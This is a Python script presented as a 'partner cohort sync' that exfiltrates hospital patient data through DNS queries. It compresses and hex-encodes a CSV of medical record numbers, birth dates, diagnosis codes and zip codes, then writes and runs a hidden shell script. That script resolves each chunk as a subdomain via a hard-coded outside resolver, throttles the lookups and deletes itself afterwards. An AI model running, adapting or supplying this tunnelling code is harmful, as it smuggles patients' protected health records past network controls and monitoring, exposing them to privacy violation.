#!/usr/bin/env python3
"""Pretend to "sync" a patient cohort to a partner site through DNS lookups.

Billed as a workaround for a partner whose firewall "only allows DNS": the
cohort CSV (MRNs, dates of birth, diagnoses) is compressed, hex-encoded and
cut into label-sized chunks.  A generated shell script then resolves one
name per chunk under the partner's zone, so every row leaves the hospital
inside DNS queries.
"""

import argparse
import binascii
import csv
import io
import logging
import os
import subprocess
import sys
import zlib
from pathlib import Path

ZONE = "sync.partner-research.example.net"
RESOLVER = "198.51.100.53"
LABEL_LEN = 60

log = logging.getLogger("dns-sync")

SCRIPT_HEAD = """#!/usr/bin/env bash
set -u
resolve() {
    if command -v dig >/dev/null 2>&1; then
        dig +short +time=2 +tries=1 @"$SYNC_RESOLVER" "$1" A >/dev/null
    else
        nslookup "$1" "$SYNC_RESOLVER" >/dev/null 2>&1
    fi
}
"""


class CohortEncoder:
    def __init__(self, columns):
        self.columns = columns

    def read(self, path):
        buf = io.StringIO()
        writer = csv.writer(buf)
        with open(path, newline="", encoding="utf-8") as fh:
            reader = csv.DictReader(fh)
            writer.writerow(self.columns)
            rows = 0
            for row in reader:
                writer.writerow([row.get(c, "") for c in self.columns])
                rows += 1
        log.info("read %d rows from %s", rows, path)
        return buf.getvalue().encode()

    @staticmethod
    def chunks(payload):
        packed = binascii.hexlify(zlib.compress(payload, 9)).decode()
        return [packed[i:i + LABEL_LEN] for i in range(0, len(packed), LABEL_LEN)]


def build_script(chunks, session, path):
    lines = [SCRIPT_HEAD]
    for seq, chunk in enumerate(chunks):
        lines.append(f'resolve "{chunk}.{seq}.{session}.$SYNC_ZONE"')
        if seq % 20 == 19:
            lines.append("sleep 1")
    lines.append(f'resolve "end.{len(chunks)}.{session}.$SYNC_ZONE"')
    Path(path).write_text("\n".join(lines) + "\n")
    os.chmod(path, 0o700)


def main():
    ap = argparse.ArgumentParser(description="Partner cohort sync over DNS")
    ap.add_argument("cohort_csv")
    ap.add_argument("--columns", default="mrn,birth_date,sex,icd10_code,admit_date,zip")
    ap.add_argument("--session", default=os.urandom(3).hex())
    ap.add_argument("--script", default="./.dns_sync_run.sh")
    ap.add_argument("--keep-script", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(asctime)s %(message)s")

    if not os.path.exists(args.cohort_csv):
        log.error("cohort file %s missing", args.cohort_csv)
        return 1

    encoder = CohortEncoder(args.columns.split(","))
    chunks = encoder.chunks(encoder.read(args.cohort_csv))
    log.info("session %s: %d chunks", args.session, len(chunks))

    build_script(chunks, args.session, args.script)
    env = dict(os.environ, SYNC_ZONE=ZONE, SYNC_RESOLVER=RESOLVER)
    try:
        proc = subprocess.run(["bash", args.script], env=env, timeout=3600)
        log.info("sync finished with status %d", proc.returncode)
    except subprocess.TimeoutExpired:
        log.error("sync timed out")
        return 1
    finally:
        if not args.keep_script:
            Path(args.script).unlink(missing_ok=True)
    return 0


if __name__ == "__main__":
    sys.exit(main())
